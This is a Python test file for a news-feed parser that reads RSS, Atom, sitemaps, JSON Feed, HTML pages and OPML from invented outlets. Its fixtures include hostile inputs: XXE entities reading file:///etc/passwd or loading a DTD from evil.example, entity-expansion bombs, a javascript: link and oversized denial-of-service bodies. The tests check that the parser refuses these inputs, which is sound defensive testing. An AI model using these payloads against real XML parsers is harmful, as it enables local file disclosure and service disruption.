"""Feeds of invented outlets, honest and hostile, as bytes."""

import time
import tracemalloc

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from onrecord.errors import ParseError
from onrecord.fetch.entries import headline, moment, web_address
from onrecord.fetch.feeds import parse_feed
from onrecord.fetch.opml import read_opml, write_opml
from onrecord.model import Entry, FeedContent

HOME = "https://tidewire.example/"
RSS = """<?xml version="1.0" encoding="utf-8"?>
<!-- made by hand -->
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.example/rss-0.91.dtd">
<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom" xmlns:dc="http://purl.org/dc/elements/1.1/"
     xmlns:media="http://search.yahoo.com/mrss/" xmlns:feedburner="http://rssnamespace.org/feedburner/ext/1.0">
<channel><title>Tidewire &amp; Sons</title><link>https://tidewire.example/</link>
<atom:link rel="self" href="https://tidewire.example/rss"/><image><title>logo</title><url>/l.png</url></image>
<item><media:title>a picture</media:title><title>Levy &amp;amp; dues &lt;b&gt;halved&lt;/b&gt;</title>
  <link> /2031/05/14/levy#top </link><guid isPermaLink="false">tag:1</guid><pubDate>Wed, 14 May 2031 10:42:00 +0200</pubDate></item>
<item><title><![CDATA[Ferries&nbsp;run <i>again</i>]]></title><guid>https://tidewire.example/ferries</guid><dc:date>2031-05-14T09:00:00Z</dc:date>
  <source url="https://elsewhere.example/rss"><title>Elsewhere</title></source></item>
<item><title>Pier row</title><link>https://feeds.example/~r/1</link><feedburner:origLink>https://tidewire.example/pier</feedburner:origLink>
  <pubDate>14 May 31 08:00 EST</pubDate><atom:updated>2031-05-15T08:00:00+02:00</atom:updated></item>
<item><title>Again</title><link>https://user:secret@tidewire.example/pier</link></item>
<item><title>No web address</title><link>javascript:alert(1)</link></item>
<item><title>No address at all</title><guid isPermaLink="false">https://tidewire.example/none</guid></item>
</channel></rss>"""
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://seldrin-nu.example/x/"><title type="html">Seldrin &lt;b&gt;Nu&lt;/b&gt;</title>
<link rel="alternate" href="/"/><link rel="self" href="/atom"/>
<entry xml:base="y/"><source><title>Not this</title><link href="/not-this"/></source><title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Smoke <b>over</b> the bay</div></title>
<link rel="self" href="self"/><link rel="alternate" type="application/json" href="a.json"/><link rel="alternate" type="text/html" href="a"/>
<published>2031-06-21T16:30:00.5+02:00</published><updated>2031-06-21T17:00:00+02:00</updated><id>urn:1</id></entry>
<entry><title>Two</title><link href="https://seldrin-nu.example/two"/><updated>2031-06-22T16:30:00Z</updated></entry></feed>"""
RDF = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel rdf:about="https://orchard.example/"><title>Orchard Post</title></channel>
<item rdf:about="https://orchard.example/1"><title>One</title><link>https://orchard.example/1</link><dc:date>2031-05-01</dc:date></item>
<item rdf:about="https://orchard.example/2"><title>Two</title></item></rdf:RDF>"""
SITEMAP = """<?xml version='1.0'?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"
 xmlns:image="http://www.google.com/schemas/sitemap-image/1.1">
<url><loc>https://tidewire.example/a</loc><lastmod>2031-05-14</lastmod><image:image><image:loc>https://tidewire.example/a.jpg</image:loc></image:image>
<news:news><news:publication><news:name>Tidewire</news:name></news:publication><news:publication_date>2031-05-13T22:00:00-05:00</news:publication_date><news:title>Levy halved</news:title></news:news></url>
<url><loc>https://tidewire.example/b</loc></url></urlset>"""
INDEX = """<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><sitemap><loc>https://tidewire.example/s1.xml.gz</loc><lastmod>2031-05-14</lastmod></sitemap>
<sitemap><loc>https://tidewire.example/s2.xml.gz</loc></sitemap></sitemapindex>"""
JSON = """{"version": "https://jsonfeed.org/version/1.1", "title": "Fen Gazette", "items": [
{"id": "1", "url": "/fever", "title": "Fever in the fens", "date_published": "2031-04-01T08:00:00+03:00", "authors": [{"name": "x"}]},
{"id": 7, "external_url": "https://fen.example/two", "date_modified": "2031-04-02T08:00:00Z"},
"no item", {"id": "https://fen.example/three"}, {"id": "none"}]}"""
SECTION = """<!doctype html><html><head><title>World | Tidewire</title><base href="https://www.tidewire.example/world/">
<link rel="alternate" type="application/rss+xml" href="/world/rss"><link rel="alternate" type="application/feed+json" href="feed.json">
<link rel="alternate" hreflang="nu" href="/nu/world"></head><body><nav><a href="/world">All the world news today</a></nav>
<a href="/2031/05/14/levy"><img src="x.jpg"></a>
<a href="/2031/05/14/levy"><span>LIVE</span><h3>Vardania halves its harbour levy</h3><p>Ships had turned away for months, and more.</p></a>
<a href="ferries-run-again-after-storm#comments">Ferries run again after the storm</a>
<a href="https://sport.tidewire.example/articles/c3x9d81z">Seldrin win the cup at last</a>
<a href="/tag/harbour-levy-and-more-dues">Harbour levy and more dues</a> <a href="/author/oona-rask-of-the-desk">Stories by Oona Rask of the desk</a>
<a href="https://elsewhere.example/2031/05/14/their-own-story">A story that stands somewhere else</a>
<a href="/videos/all">All videos of the week here</a> <a href="/login?id=12345">Log in to your account here</a>
<p>As our reporters wrote, <a href="/2031/05/13/older-story">the boats had been late for weeks</a> by then.</p>
<a href="/2031/05/14/short">Too short</a></body></html>"""


def urls(content: FeedContent) -> list[str]:
    return [e.url for e in content.entries]


def of(text: str, **more: int) -> FeedContent:
    return parse_feed(text.encode(), HOME + "rss", **more)


def test_rss_with_its_many_ways_to_say_where_and_when() -> None:
    content = of(RSS)
    assert (content.kind, content.title, content.truncated) == ("rss", "Tidewire & Sons", False)
    assert content.entries == (
        Entry(
            url="https://tidewire.example/2031/05/14/levy",
            title="Levy & dues halved",
            published="2031-05-14T10:42:00+02:00",
        ),
        Entry(url="https://tidewire.example/ferries", title="Ferries run again", published="2031-05-14T09:00:00+00:00"),
        Entry(
            url="https://tidewire.example/pier",
            title="Pier row",
            published="2031-05-14T08:00:00-05:00",
            modified="2031-05-15T08:00:00+02:00",
        ),
    )


def test_atom_with_bases_within_bases_and_the_alternate_that_is_a_page() -> None:
    content = of(ATOM)
    assert (content.kind, content.title) == ("atom", "Seldrin Nu")
    assert content.entries[0] == Entry(
        url="https://seldrin-nu.example/x/y/a",
        title="Smoke over the bay",
        published="2031-06-21T16:30:00.500+02:00",
        modified="2031-06-21T17:00:00+02:00",
    )
    assert urls(content)[1:] == ["https://seldrin-nu.example/two"]


def test_rdf_sitemaps_lists_and_json() -> None:
    assert urls(of(RDF)) == ["https://orchard.example/1", "https://orchard.example/2"]
    assert of(RDF).title == "Orchard Post"
    sitemap = of(SITEMAP)
    assert sitemap.kind == "sitemap" and sitemap.entries == (
        Entry(
            url="https://tidewire.example/a",
            title="Levy halved",
            published="2031-05-13T22:00:00-05:00",
            modified="2031-05-14",
        ),
        Entry(url="https://tidewire.example/b"),
    )
    index = of(INDEX)
    assert (index.kind, index.entries) == ("sitemap-index", ())
    assert index.feeds == ("https://tidewire.example/s1.xml.gz", "https://tidewire.example/s2.xml.gz")
    assert urls(of("\ufeffhttps://a.example/1\r\n\r\nhttps://a.example/2\n")) == [
        "https://a.example/1",
        "https://a.example/2",
    ]
    feed = of(JSON)
    assert (feed.kind, feed.title) == ("json", "Fen Gazette")
    assert feed.entries == (
        Entry(url="https://tidewire.example/fever", title="Fever in the fens", published="2031-04-01T08:00:00+03:00"),
        Entry(url="https://fen.example/two", modified="2031-04-02T08:00:00+00:00"),
        Entry(url="https://fen.example/three"),
    )


def test_a_section_page_lists_its_articles_and_names_its_feeds() -> None:
    content = parse_feed(SECTION.encode(), "https://www.tidewire.example/world/", "application/rss+xml")
    assert (content.kind, content.title) == ("section", "World | Tidewire")
    assert content.feeds == ("https://www.tidewire.example/world/rss", "https://www.tidewire.example/world/feed.json")
    assert content.entries == (
        Entry(url="https://www.tidewire.example/2031/05/14/levy", title="Vardania halves its harbour levy"),
        Entry(
            url="https://www.tidewire.example/world/ferries-run-again-after-storm",
            title="Ferries run again after the storm",
        ),
        Entry(url="https://sport.tidewire.example/articles/c3x9d81z", title="Seldrin win the cup at last"),
    )


def test_a_live_blog_is_a_feed_of_itself() -> None:
    page = """<html><head><script type="application/ld+json">{"@graph": [{"@type": "LiveBlogPosting", "headline": "Live: fire",
      "datePublished": "2031-06-21T16:30:00+02:00", "dateModified": "2031-06-21T18:41:00+02:00"}]}</script></head><body><p>x</p></body></html>"""
    content = parse_feed(page.encode(), "https://seldrin-nu.example/live/fire?x=1#top")
    assert content.kind == "live-blog" and content.entries == (
        Entry(
            url="https://seldrin-nu.example/live/fire?x=1",
            title="Live: fire",
            published="2031-06-21T16:30:00+02:00",
            modified="2031-06-21T18:41:00+02:00",
        ),
    )


def test_the_limit_keeps_the_first_and_says_that_there_was_more() -> None:
    for text in (RSS, ATOM, SITEMAP, JSON, SECTION, "https://a.example/1\nhttps://a.example/2"):
        content = of(text, limit=1) if text is not SECTION else parse_feed(text.encode(), HOME, limit=1)
        assert len(content.entries) == 1 and content.truncated, text[:60]
    assert of(INDEX, limit=1).truncated and len(of(INDEX, limit=1).feeds) == 1
    assert not of(ATOM, limit=2).truncated


@pytest.mark.parametrize(
    "body",
    [
        ATOM.replace("Two", "Tvåa på ön").encode("utf-16"),
        ATOM.replace("Two", "Tvåa på ön").encode("utf-16-le"),
        ATOM.replace("Two", "Tvåa på ön").encode("utf-8-sig"),
        ('<?xml version="1.0" encoding="iso-8859-1"?>' + ATOM.replace("Two", "Tvåa på ön")).encode("latin-1"),
        ('<?xml version="1.0" encoding="ascii"?>' + ATOM.replace("Two", "Tvåa på ön")).encode("utf-8"),
        ('<?xml version="1.0" encoding="punycode"?>' + ATOM.replace("Two", "Tvåa på ön")).encode("latin-1"),
        ATOM.replace("Two", "Tv&aring;a\0 p&#229; &ouml;n").encode(),
        ("\n\n<br /><b>Warning</b>: division by zero\n" + ATOM.replace("Two", "Tvåa på ön")).encode(),
    ],
)
def test_encodings_declared_wrong_or_not_at_all(body: bytes) -> None:
    content = parse_feed(body, HOME)
    assert (content.kind, len(content.entries)) == ("atom", 2)
    assert "".join(content.entries[1].title or "").replace(" ", "") == "Tvåapåön"


def test_a_feed_cut_short_keeps_what_was_whole() -> None:
    content = of(RSS[: RSS.index("<feedburner:origLink>") + 40])
    assert len(content.entries) == 2 and content.truncated
    assert content.entries == of(RSS).entries[:2]
    assert len(of(SITEMAP[: SITEMAP.index("/b</loc>") + 1]).entries) == 1


def test_feeds_that_are_not_well_formed_are_read_all_the_same() -> None:
    broken = """<rss><channel><title>Fish & Chips</title><item><title>A <b>bold</title><link>https://tidewire.example/a?x=1&y=2</link></item>
      <item><title>B < C</title><link>https://tidewire.example/b</link></item></channel></rss>"""
    assert urls(of(broken)) == ["https://tidewire.example/a?x=1&y=2", "https://tidewire.example/b"]
    many = "".join(ITEM.format(i).replace("Item", "Item <br>") for i in range(300))
    assert len(of(f"<rss><channel>{many}</channel></rss>").entries) == 300


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b"", "empty"),
        (b" \n\0\n ", "empty"),
        (b"%PDF-1.7", "a PDF"),
        (b"\x89PNG\r\n", "PNG"),
        (b"\x1f\x8b\x08", "gzip"),
        (b"nothing to see here", "no feed"),
        (b'{"a": 1}', "JSON Feed"),
        (b'{"items": [', "JSON Feed"),
        (b"{" * 100_000, "JSON Feed"),
        (b"<opml version='2.0'><body/></opml>", "OPML"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><path/></svg>", "no feed"),
        (b"<html><body><p>Nothing here.</p></body></html>", "no feed"),
        (b"<?xml version='1.0'?><!DOCTYPE rss [<!ENTITY a 'aaa'><!ENTITY b '&a;&a;'>]><rss>&b;</rss>", "entities"),
        (b"<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><rss><channel><title>&x;</title></channel></rss>", "entities"),
        (b"<!DOCTYPE rss [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'> %x;]><rss/>", "entities"),
        (b"<rss>" + b"<a>" * 1_000_000, "deeper"),
        (b"<html><body>" + b"<div>" * 5_000, "nested"),
    ],
)  # fmt: skip
def test_what_is_no_feed_gets_one_clear_line(body: bytes, message: str) -> None:
    with pytest.raises(ParseError, match=message) as caught:
        parse_feed(body, HOME)
    assert "\n" not in str(caught.value)


def test_an_empty_feed_is_a_feed() -> None:
    assert of("<rss><channel><title>Quiet</title></channel></rss>") == FeedContent(kind="rss", title="Quiet")


ITEM = "<item><title>Item {0} of the day</title><link>https://tidewire.example/{0}</link></item>"


@pytest.mark.slow
@pytest.mark.parametrize(
    ("body", "entries"),
    [
        ("<rss><channel>" + "".join(ITEM.format(i) for i in range(300_000)), 10_000),
        ("<rss><channel>" + ITEM.format(1) * 300_000, 1),
        ("<rss><channel>" + ITEM.format(1) + "<item><title>" + "x" * 50_000_000 + "</title></item>", 1),
        ("<rss><channel>" + ITEM.format(1) + "<item><description><![CDATA[" + "x" * 30_000_000 + "]]></description></item>" + ITEM.format(2), 2),
        ("<rss><channel>" + ITEM.format(1) + "<item " + " ".join(f"a{i}='1'" for i in range(1_000_000)) + "/>", 1),
        ("<rss><channel>" + ITEM.format(1) + "<!--" + "x" * 30_000_000 + "-->" + ITEM.format(2), 2),
        ("<rss><channel>" + ITEM.format(1) + "<" * 5_000_000, 1),
        ("<rss><channel>" + ITEM.format(1) + "&x;" * 3_000_000, 1),
        ("<urlset>" + "".join(f"<url><loc>https://tidewire.example/{i}</loc></url>" for i in range(300_000)), 10_000),
        ("\n".join(f"https://tidewire.example/{i}" for i in range(1_000_000)), 10_000),
        ("<rss><channel>" + ITEM.format(1) + "<x>" * 1_000_000, 1),
        ("<rss><channel>" + "<x>" * 80_000 + ITEM.format(1), 1),
        ("<rss><channel>" + "<x xml:base='a/b/'>" * 12_000 + ITEM.format(1), 1),
        ("<rss><channel>" + ITEM.format(1) + "<item><title>" + "&nbsp;" * 2_000_000, 1),
        ("<html><body><a href='/2031/05/14/levy'>The levy is halved again</a>" + "<x>" * 3_000_000, 1),
        ("<html>" + "<link rel=alternate type='application/rss+xml' href='/x'>" * 100_000, 0),
    ],
)  # fmt: skip
def test_monstrous_feeds_are_read_in_time(body: str, entries: int) -> None:
    begun = time.monotonic()
    assert len(of(body).entries) == entries
    assert time.monotonic() - begun < 10


@pytest.mark.slow
@pytest.mark.parametrize(
    "body",
    [
        "<rss><channel>" + "".join(ITEM.format(i) for i in range(200_000)),
        "<rss><channel><item><title>" + "x" * 50_000_000 + "</title></item>",
    ],
)
def test_memory_does_not_grow_with_the_feed(body: str) -> None:
    data = body.encode()
    tracemalloc.start()
    parse_feed(data, HOME, limit=1000)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 20 * 2**20


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Wed, 14 May 2031 10:42:00 GMT", "2031-05-14T10:42:00+00:00"),
        ("Wed, 14 May 2031 10:42 -0330", "2031-05-14T10:42:00-03:30"),
        ("14 May 2031 10:42:00", "2031-05-14T10:42:00"),
        ("2031/05/14 10:42", "2031-05-14T10:42:00"),
        ("2031-05-14", "2031-05-14"),
        ("Wed, 99 May 2031 10:42:00 GMT", None),
        ("Wed, 14 May 2031 10:42:00 +999999999999", None),
        ("yesterday", None),
        ("", None),
        (None, None),
    ],
)
def test_moments_keep_their_zone(value: str | None, expected: str | None) -> None:
    assert moment(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("HTTPS://User:pw@Tidewire.Example:443/a b?q=ö#f", "https://tidewire.example/a%20b?q=ö"),
        ("//tidewire.example", "https://tidewire.example/"),
        ("../up?x=1;2", "https://base.example/up?x=1;2"),
        ("http://tidewire.example:8080/", "http://tidewire.example:8080/"),
        ("http://[::1]:99999/", None),
        ("http://[bad/", None),
        ("https://a b.example/", None),
        ("mailto:x@tidewire.example", None),
        ("ftp://tidewire.example/", None),
        ("x" * 5000, None),
        ("<" * 3000, None),
    ],
)
def test_addresses_are_clean(value: str, expected: str | None) -> None:
    assert web_address(value, "https://base.example/x/y") == expected


def test_headlines_are_words() -> None:
    assert headline("  A\n<b>B</b> &lt;i&gt;C&lt;/i&gt; 5 < 6 \u202e") == "A B C 5 < 6"
    assert headline("<b></b>") is None and headline(7) is None


OPML = b"""<?xml version="1.0"?><opml version="1.0"><head><title>Mine</title></head><body>
<outline text="News"><outline text="x" title="Tidewire &amp; Sons" xmlUrl="https://tidewire.example/rss" htmlUrl="https://tidewire.example/"/>
<outline text="More"><outline type="rss" text="Seldrin Nu" xmlurl="https://seldrin-nu.example/atom#x"/></outline></outline>
<outline text="https://bare.example/rss" xmlUrl="https://bare.example/rss"/><outline text="again" xmlUrl="https://tidewire.example/rss"/>
<outline text="no web address" xmlUrl="file:///etc/passwd"/></body></opml>"""


def test_opml_is_read_at_any_depth() -> None:
    assert read_opml(OPML) == [
        ("Tidewire & Sons", "https://tidewire.example/rss"),
        ("Seldrin Nu", "https://seldrin-nu.example/atom"),
        (None, "https://bare.example/rss"),
    ]


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"<rss/>",
        b"%PDF",
        b"<!DOCTYPE opml [<!ENTITY a 'b'>]><opml/>",
        b"<opml><body>" + b"<outline text='x'>" * 100_000,
    ],
)
def test_what_is_no_opml_is_refused(body: bytes) -> None:
    with pytest.raises(ParseError):
        read_opml(body)


addresses = st.builds(
    lambda host, path: f"https://{host}.example/{path}",
    st.from_regex(r"[a-z]{1,12}", fullmatch=True),
    st.text("abcdefghij0123456789-_/?&=;'%~", max_size=20).filter(lambda p: not p.startswith("/") and "//" not in p),
)


@given(st.lists(st.tuples(st.none() | st.text(max_size=30), addresses), unique_by=lambda f: f[1], max_size=8))
@settings(max_examples=150)
def test_opml_survives_being_written_and_read(feeds: list[tuple[str | None, str]]) -> None:
    feeds = [(headline(title), web_address(url) or "") for title, url in feeds]
    feeds = [(t, u) for t, u in feeds if t is None or (headline(t) == t and t != u)]
    unique = list({u: (t, u) for t, u in reversed(feeds)}.values())[::-1]
    assert read_opml(write_opml(unique)) == unique


@given(st.sampled_from([RSS, ATOM, RDF, SITEMAP, INDEX, JSON, SECTION]), st.data())
@settings(max_examples=200)
def test_spoiled_feeds_are_read_or_refused(text: str, data: st.DataObject) -> None:
    body = bytearray(text.encode())
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(body)))
        body[at : at + data.draw(st.integers(0, 60))] = data.draw(st.binary(max_size=30))
    try:
        content = parse_feed(bytes(body), HOME)
    except ParseError as error:
        assert "\n" not in str(error)
        return
    assert len(set(urls(content))) == len(content.entries)
    assert all(web_address(u) == u for u in (*urls(content), *content.feeds))
